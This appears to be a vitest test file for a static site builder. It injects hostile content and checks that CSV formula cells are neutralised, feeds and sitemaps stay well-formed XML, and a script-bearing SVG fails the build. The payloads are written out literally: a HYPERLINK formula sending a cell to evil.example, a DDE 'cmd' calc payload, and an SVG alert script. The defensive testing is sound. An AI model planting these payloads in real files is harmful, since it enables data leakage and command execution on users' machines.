import { existsSync } from 'node:fs';
import { mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import { parse } from 'node-html-parser';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { isFormulaLike } from '../../src/lib/formula-cells.ts';
import { buildSite } from '../helpers/build-fixture.ts';
import { copyFixture, editFile } from '../helpers/content.ts';
import { checkWellFormedXml } from '../helpers/xml.ts';

// The fixture as a careless editor or an attacker with commit rights might write it.
const HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"点击")';
const PLAIN_SVG = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 2 2"><rect width="1" height="1" fill="#c00"/></svg>';
const HOSTILE_CELLS = ['@SUM(A1)', "+1+cmd|' /C calc'!A0", '\t=1+1', '-2+3'];

describe('a build of hostile content', () => {
  const state = { content: '', dist: '' };
  beforeAll(async () => {
    state.content = await copyFixture();
    // A public address, so that the feed and the sitemaps are built.
    await editFile(state.content, 'site.yaml', 'district: 测试区', 'district: 测试区\nurl: https://example.org');
    await editFile(state.content, 'communities/liuan.md', 'name: 柳岸社区', 'name: 柳岸\u202E社区\u200B');
    await editFile(state.content, 'reports/shijian.md', 'title: 测试区规范化建设实践', 'title: "测试区\\u2066规范化\\uFEFF建设 <b>&amp; ]]>"');
    await editFile(state.content, 'reports/shijian.md', 'summary: 一份用于测试的报告。', 'summary: "一份\\u202D用于测试的</description>报告。"');
    await editFile(state.content, 'communities/hetang.md', 'name: 荷塘社区', `name: '${HOSTILE_NAME}'`);
    await writeFile(path.join(state.content, 'data/jingfei.csv'), ['year,amount,note', ...HOSTILE_CELLS.map((cell, i) => `${2020 + i},${i === 3 ? -1.5 : 10 + i},"${cell.replace(/"/g, '""')}"`)].join('\n'));
    await editFile(state.content, 'reports/shijian.md', /$/, '\n```chart\ntype: bar\ntitle: 各社区户数\nfrom: communities\nx: name\ny: households\n```\n');
    await writeFile(path.join(state.content, 'media/plain.svg'), PLAIN_SVG);
    await editFile(state.content, 'reports/shijian.md', '满意度稳步提升。', '满意度稳步提升。\n\n![示意图](../media/plain.svg)');
    state.dist = path.join(await mkdtemp(path.join(os.tmpdir(), 'shequ-hostile-')), 'dist');
    await buildSite(state.content, state.dist);
  }, 180_000);
  afterAll(async () => {
    await rm(state.content, { recursive: true, force: true });
    if (state.dist) await rm(path.dirname(state.dist), { recursive: true, force: true });
  });

  const readCsv = async (file: string) => parseCsv((await readFile(path.join(state.dist, file), 'utf8')).replace(/^\uFEFF/, '')) as string[][];

  test('no cell of any published CSV is a formula, and the hostile ones are shown as text', async () => {
    const files = (await readdir(state.dist, { recursive: true })).filter((f) => f.endsWith('.csv')).sort();
    expect(files).toEqual(expect.arrayContaining(['data/communities.csv', 'data/jingfei.csv', 'charts/report-shijian-2.csv']));
    const cells = (await Promise.all(files.map(readCsv))).flat(2);
    expect(cells.filter(isFormulaLike)).toEqual([]);
    expect((await readCsv('data/communities.csv')).map((row) => row[1])).toContain(`'${HOSTILE_NAME}`);
    expect((await readCsv('charts/report-shijian-2.csv')).map((row) => row[0])).toContain(`'${HOSTILE_NAME}`);
    expect((await readCsv('data/jingfei.csv')).slice(1)).toEqual(
      // Data tables keep cells trimmed, so the tab before `=1+1` is gone; the formula is still neutralised.
      HOSTILE_CELLS.map((cell, i) => [String(2020 + i), i === 3 ? '-1.5' : String(10 + i), `'${cell.trim()}`]),
    );
  });

  test('the feed and every sitemap are well-formed XML, with the names kept', async () => {
    const files = (await readdir(state.dist)).filter((f) => f.endsWith('.xml'));
    expect(files).toEqual(expect.arrayContaining(['rss.xml', 'sitemap-index.xml', 'sitemap-0.xml']));
    for (const file of files) expect([file, checkWellFormedXml(await readFile(path.join(state.dist, file), 'utf8'))]).toEqual([file, true]);
    expect(await readFile(path.join(state.dist, 'rss.xml'), 'utf8')).toContain('测试区\u2066规范化');
  });

  test('the data page says how formula cells are neutralised', async () => {
    const page = parse(await readFile(path.join(state.dist, 'data/index.html'), 'utf8'));
    expect(page.querySelector('main .note')?.textContent).toContain('英文单引号');
  });

  test('a plain SVG is published as written', async () => {
    const svgs = (await readdir(path.join(state.dist, '_astro'))).filter((f) => f.endsWith('.svg'));
    expect(await Promise.all(svgs.map((f) => readFile(path.join(state.dist, '_astro', f), 'utf8')))).toContain(PLAIN_SVG);
  });
});

describe('a build with an active SVG', () => {
  test('fails with the problem at the line that uses it and publishes nothing', async () => {
    const content = await copyFixture();
    const out = path.join(await mkdtemp(path.join(os.tmpdir(), 'shequ-svg-')), 'dist');
    try {
      await writeFile(path.join(content, 'media/evil.svg'), '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>');
      await editFile(content, 'reports/shijian.md', '满意度稳步提升。', '满意度稳步提升。\n\n![图](../media/evil.svg)');
      const failure = (await buildSite(content, out).then(
        () => undefined,
        (error: unknown) => error,
      )) as { stderr?: string; stdout?: string } | undefined;
      expect(failure).toBeDefined();
      const output = `${failure?.stdout ?? ''}${failure?.stderr ?? ''}`;
      expect(output).toMatch(/reports\/shijian\.md:16: SVG 图片“..\/media\/evil.svg”含有<script> 元素/);
      expect(output).not.toMatch(/\n\s+at /);
      expect(existsSync(out)).toBe(false);
    } finally {
      await rm(content, { recursive: true, force: true });
      await rm(path.dirname(out), { recursive: true, force: true });
    }
  }, 120_000);
});
